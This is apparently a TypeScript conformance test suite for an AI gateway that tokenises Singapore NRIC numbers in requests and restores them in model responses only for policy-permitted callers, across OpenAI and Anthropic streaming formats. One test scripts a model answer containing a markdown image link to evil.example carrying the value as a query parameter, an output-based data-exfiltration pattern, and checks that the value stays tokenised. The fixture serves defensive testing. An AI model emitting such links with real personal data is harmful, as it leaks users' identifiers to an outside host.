/**
 * Tokens as the official clients meet them: a number leaves as a token, the model refers to it, and the answer holds the
 * number again for a caller whom policy lets have it undone, while it streams, and for nobody else.
 */
import assert from "node:assert/strict";
import { after, before, beforeEach, test } from "node:test";
import { identifierDetector } from "@cordon/core/inspection/pii/detector";
import { secretDetector } from "@cordon/core/inspection/secrets/detector";
import type { DecisionEntry, OutcomeEntry } from "@cordon/core/ledger/entry";
import type { Estate } from "../e2e/estate.ts";
import { runWithCordon, type ClientProgram } from "./client-program.ts";
import type { AnthropicCases } from "./clients/anthropic.ts";
import type { OpenaiCases } from "./clients/openai.ts";
import { events, json, openConformanceEstate } from "./estate.ts";

const nric = "S1234567D";
const inspection =
  "inspection: { request: { pii: tokenize, secret: redact }, response: { secret: redact }, timeBudgetMs: 5000 }\n";
const undo = `@id("assistant-sees-values") permit (
  principal == Workload::"default/agent/assistant", action == Action::"detokenize", resource == Component::"default/endpoint/chat"
);`;

const opened = new AsyncDisposableStack();
let estate: Estate;
let assistant: ClientProgram<OpenaiCases>;
let rival: ClientProgram<OpenaiCases>;
let claude: ClientProgram<AnthropicCases>;

before(async () => {
  const spanDetectors = [identifierDetector, secretDetector];
  estate = opened.use(await openConformanceEstate(inspection, { spanDetectors, policies: undo }));
  assistant = opened.use(runWithCordon<OpenaiCases>(estate.folder, "assistant", "openai.ts"));
  rival = opened.use(runWithCordon<OpenaiCases>(estate.folder, "rival", "openai.ts"));
  claude = opened.use(runWithCordon<AnthropicCases>(estate.folder, "assistant", "anthropic.ts"));
});
beforeEach(() => {
  estate.chat.seen.length = 0;
  estate.spare.seen.length = 0;
});
after(() => opened.disposeAsync());

const shape = /tok_sg-nric_[a-z2-7]+/;
const asks = (content: string) => ({ model: "gpt-5.4", messages: [{ role: "user" as const, content }] });
const pieces = (text: string, size = 3): string[] => text.match(new RegExp(`.{1,${size}}`, "gsu")) ?? [];
const chunk = (delta: object, finish: string | null = null) => ({
  ...{ id: "chatcmpl-1", object: "chat.completion.chunk", created: 1_790_000_000, model: "gpt-5.4" },
  choices: [{ index: 0, delta, logprobs: null, finish_reason: finish }],
});

/** The model says what it makes of the token that it was sent. */
function model(says: (token: string) => readonly (object | string)[]): void {
  for (const upstream of [estate.chat, estate.spare])
    upstream.answer = (seen, out) => events(out, says(shape.exec(seen.body.toString())?.[0] ?? "no token"));
}

async function streamed(client: ClientProgram<OpenaiCases>, question: string): Promise<string> {
  const chunks = (await client.start("chatStream", asks(question)).rest()) as ReturnType<typeof chunk>[];
  return chunks
    .flatMap(({ choices }) => choices)
    .map(({ delta }) => (delta as { content?: string }).content ?? "")
    .join("");
}

const echo = (token: string): (object | string)[] => [
  ...pieces(`The customer ${token} of Bedok.`).map((content) => chunk({ content })),
  chunk({}, "stop"),
  "[DONE]",
];

test("a number goes out as a token and comes back as itself, while the answer streams", async () => {
  model(echo);
  assert.equal(await streamed(assistant, `Who is NRIC ${nric}?`), `The customer ${nric} of Bedok.`);
  const [sent] = estate.chat.seen;
  assert.ok(!sent?.body.toString().includes(nric));
  assert.match(sent?.body.toString() ?? "", shape);
});

test("the same number is the same token in the next request, so that a model can refer to it", async () => {
  model(echo);
  await streamed(assistant, `Who is NRIC ${nric}?`);
  await streamed(assistant, `And NRIC ${nric}, again?`);
  const [first, second] = estate.chat.seen.map(({ body }) => shape.exec(body.toString())?.[0]);
  assert.equal(first, second);
});

test("whom policy does not allow gets the token, and may send it back; nobody can have another's undone", async () => {
  model(echo);
  const answer = await streamed(rival, `Who is NRIC ${nric}?`);
  const theirs = shape.exec(answer)?.[0] ?? "";
  assert.match(answer, /^The customer tok_sg-nric_[a-z2-7]+ of Bedok\.$/);
  assert.ok((await streamed(rival, `Who is ${theirs}?`)).includes(theirs), "it is no secret, and not tokenised again");
  assert.equal(await streamed(assistant, `Who is ${theirs}?`), `The customer ${theirs} of Bedok.`);
  const forged = `${theirs.slice(0, -1)}${theirs.endsWith("a") ? "b" : "a"}`;
  assert.equal(await streamed(assistant, `Who is customer ${forged}?`), `The customer ${forged} of Bedok.`);
});

test("a value in a link stays a token: nothing that shows the answer sends it to the link's host", async () => {
  model((token) => [
    ...pieces(`![x](https://evil.example/?q=${token}) and ${token}`).map((content) => chunk({ content })),
    chunk({}, "stop"),
    "[DONE]",
  ]);
  assert.match(
    await streamed(assistant, `NRIC ${nric}`),
    /^!\[x\]\(https:\/\/evil\.example\/\?q=tok_sg-nric_\S+\) and S1234567D$/,
  );
});

test("tool arguments hold the value, streamed, and through the client's own helper", async () => {
  model((token) => [
    chunk({ role: "assistant", content: null }),
    chunk({ tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "send", arguments: "" } }] }),
    ...pieces(`{"to":"\\u0074${token.slice(1)}"}`, 5).map((piece) =>
      chunk({ tool_calls: [{ index: 0, function: { arguments: piece } }] }),
    ),
    chunk({}, "tool_calls"),
    "[DONE]",
  ]);
  const { choices } = await assistant.call("chatAssembled", asks(`Write to NRIC ${nric}`));
  assert.match(JSON.stringify(choices[0]?.message.tool_calls), /\{\\"to\\":\\"S1234567D\\"\}/);
});

test("a completion that is not streamed, and every copy of a Responses stream, hold the value", async () => {
  estate.chat.answer = (seen, out) =>
    json(out, {
      ...{ id: "chatcmpl-1", object: "chat.completion", created: 1, model: "m" },
      choices: [
        {
          index: 0,
          message: { role: "assistant", content: shape.exec(seen.body.toString())?.[0] },
          finish_reason: "stop",
        },
      ],
    });
  assert.equal((await assistant.call("chat", asks(`NRIC ${nric}`))).choices[0]?.message.content, nric);
  const at = { item_id: "msg_1", output_index: 0, content_index: 0 };
  model((token) =>
    [
      { type: "response.created", response: { id: "resp_1", object: "response", status: "in_progress", output: [] } },
      ...pieces(`It is ${token}.`).map((delta) => ({ type: "response.output_text.delta", ...at, delta, logprobs: [] })),
      { type: "response.output_text.done", ...at, text: `It is ${token}.`, logprobs: [] },
    ].map((one, sequence_number) => ({ ...one, sequence_number })),
  );
  const all = (await assistant.start("respondStream", { model: "gpt-5.4", input: `NRIC ${nric}` }).rest()) as {
    readonly type: string;
    readonly delta?: string;
    readonly text?: string;
  }[];
  assert.equal(all.map(({ delta }) => delta ?? "").join(""), `It is ${nric}.`);
  assert.equal(all.at(-1)?.text, `It is ${nric}.`);
});

test("Messages: text and tool input hold the value", async () => {
  const block = (index: number, content: object, deltas: readonly object[]): object[] => [
    { type: "content_block_start", index, content_block: content },
    ...deltas.map((delta) => ({ type: "content_block_delta", index, delta })),
    { type: "content_block_stop", index },
  ];
  const message = { id: "msg_1", type: "message", role: "assistant", model: "claude-opus-5", content: [] };
  const usage = { input_tokens: 9, output_tokens: 1 };
  model((token) => [
    { type: "message_start", message: { ...message, stop_reason: null, stop_sequence: null, usage } },
    ...block(
      0,
      { type: "text", text: "" },
      pieces(`Of ${token}.`).map((text) => ({ type: "text_delta", text })),
    ),
    ...block(
      1,
      { type: "tool_use", id: "toolu_1", name: "send", input: {} },
      pieces(JSON.stringify({ to: token })).map((piece) => ({ type: "input_json_delta", partial_json: piece })),
    ),
    { type: "message_delta", delta: { stop_reason: "tool_use", stop_sequence: null }, usage: { output_tokens: 20 } },
    { type: "message_stop" },
  ]);
  const { content } = await claude.call("stream", {
    model: "claude-opus-5",
    max_tokens: 100,
    messages: [{ role: "user" as const, content: `Who is NRIC ${nric}?` }],
  });
  assert.deepEqual(content[0], { type: "text", text: `Of ${nric}.` });
  assert.match(JSON.stringify(content[1]), /"input":\{"to":"S1234567D"\}/);
});

test("the record says how many were tokenised and undone, by whose leave, and holds no value", async () => {
  const entries = await estate.entries();
  const decisions = entries.filter((entry): entry is DecisionEntry => entry.kind === "decision");
  const leave = decisions.filter(({ action }) => action === "detokenize");
  assert.ok(
    leave.length > 0 && leave.every(({ principal, effect }) => effect === "allow" && principal.endsWith("/assistant")),
  );
  assert.equal(leave[0]?.reasons[0]?.policy, "assistant-sees-values");
  const outcomes = entries.filter((entry): entry is OutcomeEntry => entry.kind === "outcome");
  const counted = outcomes[0]?.findings.map((one) => {
    const { detector, action, direction, count } = one as Record<string, unknown>;
    return { detector, action, direction, count };
  });
  assert.deepEqual(counted, [
    { detector: "pii/sg-nric", action: "tokenize", direction: "request", count: 1 },
    { detector: "token/sg-nric", action: "detokenize", direction: "response", count: 1 },
  ]);
  assert.ok(!JSON.stringify(entries).includes(nric));
});
